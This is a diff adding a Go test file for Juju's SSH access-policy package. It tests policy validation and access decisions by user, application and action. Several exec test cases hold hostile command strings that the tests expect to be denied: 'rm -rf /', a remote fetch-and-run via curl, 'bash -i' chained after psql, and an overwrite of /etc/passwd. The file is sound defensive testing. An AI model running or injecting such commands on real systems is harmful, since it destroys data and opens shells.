@@ -0,0 +1,188 @@
+// Copyright 2025 Canonical Ltd.
+// Licensed under the AGPLv3, see LICENCE file for details.
+
+package sshpolicy_test
+
+import (
+	jc "github.com/juju/testing/checkers"
+	gc "gopkg.in/check.v1"
+
+	"github.com/juju/juju/core/sshpolicy"
+)
+
+type policySuite struct{}
+
+var _ = gc.Suite(&policySuite{})
+
+const (
+	dbaUser   = "alice"
+	otherUser = "user-bob"
+)
+
+func (s *policySuite) TestValidate(c *gc.C) {
+	valid := sshpolicy.Policy{
+		Name:         "dbas",
+		Users:        []string{dbaUser},
+		Applications: []string{"postgresql"},
+		Commands:     []string{"psql*"},
+	}
+	c.Assert(valid.Validate(), jc.ErrorIsNil)
+
+	for _, t := range []struct {
+		update func(*sshpolicy.Policy)
+		err    string
+	}{{
+		update: func(p *sshpolicy.Policy) { p.Name = "DBAs" },
+		err:    `policy name "DBAs" not valid`,
+	}, {
+		update: func(p *sshpolicy.Policy) { p.Users = nil },
+		err:    `policy "dbas" without users not valid`,
+	}, {
+		update: func(p *sshpolicy.Policy) { p.Users = []string{" "} },
+		err:    `user " " in policy "dbas" not valid`,
+	}, {
+		update: func(p *sshpolicy.Policy) { p.Users = []string{"SHA256:jxNQoxAe8Q6fsNcPzNaw5QnKYYzfnIr9xWpdYnmIyF4"} },
+		err:    `user "SHA256:.*" in policy "dbas" not valid`,
+	}, {
+		update: func(p *sshpolicy.Policy) { p.Applications = []string{"Bad_App"} },
+		err:    `application name "Bad_App" in policy "dbas" not valid`,
+	}, {
+		update: func(p *sshpolicy.Policy) { p.Commands = []string{""} },
+		err:    `empty command pattern in policy "dbas" not valid`,
+	}, {
+		update: func(p *sshpolicy.Policy) { p.Commands = nil },
+		err:    `policy "dbas" granting nothing not valid`,
+	}} {
+		p := valid
+		t.update(&p)
+		c.Check(p.Validate(), gc.ErrorMatches, t.err)
+	}
+}
+
+func (s *policySuite) TestAllowedWithoutPolicies(c *gc.C) {
+	c.Assert(sshpolicy.Allowed(nil, sshpolicy.Request{
+		Action: sshpolicy.PortForward,
+	}), jc.IsTrue)
+}
+
+func (s *policySuite) TestAllowed(c *gc.C) {
+	policies := []sshpolicy.Policy{{
+		Name:         "dbas",
+		Users:        []string{dbaUser},
+		Applications: []string{"postgresql"},
+		Commands:     []string{"psql*"},
+	}, {
+		Name:  "operators",
+		Users: []string{otherUser},
+		Shell: true,
+		SFTP:  true,
+	}}
+
+	for i, t := range []struct {
+		req     sshpolicy.Request
+		allowed bool
+	}{{
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.Connect},
+		allowed: true,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "mysql", Action: sshpolicy.Connect},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Action: sshpolicy.Connect},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.Exec, Command: "psql -c 'select 1'"},
+		allowed: true,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.Exec, Command: "rm -rf /"},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.Exec, Command: "psql; bash -i"},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.Exec, Command: "psql $(curl http://example.com/x.sh)"},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.Exec, Command: "psql `id`"},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.Exec, Command: "psql -c 'select 1' > /etc/passwd"},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.Exec, Command: "psql && bash"},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.Shell},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: dbaUser, Application: "postgresql", Action: sshpolicy.PortForward},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: otherUser, Action: sshpolicy.Shell},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: "bob", Action: sshpolicy.Shell},
+		allowed: true,
+	}, {
+		req:     sshpolicy.Request{User: "bob@local", Action: sshpolicy.Shell},
+		allowed: true,
+	}, {
+		req:     sshpolicy.Request{User: "bob", Application: "mysql", Action: sshpolicy.SFTP},
+		allowed: true,
+	}, {
+		req:     sshpolicy.Request{User: "bob", Action: sshpolicy.PortForward},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: "carol", Action: sshpolicy.Connect},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{User: "alice@external", Application: "postgresql", Action: sshpolicy.Connect},
+		allowed: false,
+	}, {
+		req:     sshpolicy.Request{Action: sshpolicy.Connect},
+		allowed: false,
+	}} {
+		c.Logf("test %d: %+v", i, t.req)
+		c.Check(sshpolicy.Allowed(policies, t.req), gc.Equals, t.allowed)
+	}
+}
+
+func (s *policySuite) TestAllowedEveryone(c *gc.C) {
+	policies := []sshpolicy.Policy{{
+		Name:     "everyone",
+		Users:    []string{sshpolicy.Everyone},
+		Commands: []string{"uptime", "df -?"},
+	}}
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{Action: sshpolicy.Exec, Command: "uptime"}), jc.IsTrue)
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{User: dbaUser, Action: sshpolicy.Exec, Command: "df -h"}), jc.IsTrue)
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{Action: sshpolicy.Exec, Command: "uptime; reboot"}), jc.IsFalse)
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{Action: sshpolicy.Exec, Command: "df -h\nreboot"}), jc.IsFalse)
+}
+
+func (s *policySuite) TestAllowedEveryoneExternal(c *gc.C) {
+	policies := []sshpolicy.Policy{{
+		Name:  "external",
+		Users: []string{sshpolicy.EveryoneExternal},
+		Shell: true,
+	}}
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{User: "alice@external", Action: sshpolicy.Shell}), jc.IsTrue)
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{User: "alice", Action: sshpolicy.Shell}), jc.IsFalse)
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{Action: sshpolicy.Shell}), jc.IsFalse)
+}
+
+func (s *policySuite) TestAllowedAnyCommand(c *gc.C) {
+	// A pattern of just "*" allows any command, as shell metacharacters
+	// can't run anything it wouldn't allow anyway.
+	policies := []sshpolicy.Policy{{
+		Name:     "operators",
+		Users:    []string{sshpolicy.Everyone},
+		Commands: []string{"*"},
+	}}
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{Action: sshpolicy.Exec, Command: "uptime"}), jc.IsTrue)
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{Action: sshpolicy.Exec, Command: "cat /var/log/syslog | grep juju"}), jc.IsTrue)
+
+	// Any other pattern only matches commands without them.
+	policies[0].Commands = []string{"cat *"}
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{Action: sshpolicy.Exec, Command: "cat /var/log/syslog"}), jc.IsTrue)
+	c.Check(sshpolicy.Allowed(policies, sshpolicy.Request{Action: sshpolicy.Exec, Command: "cat /var/log/syslog | sh"}), jc.IsFalse)
+}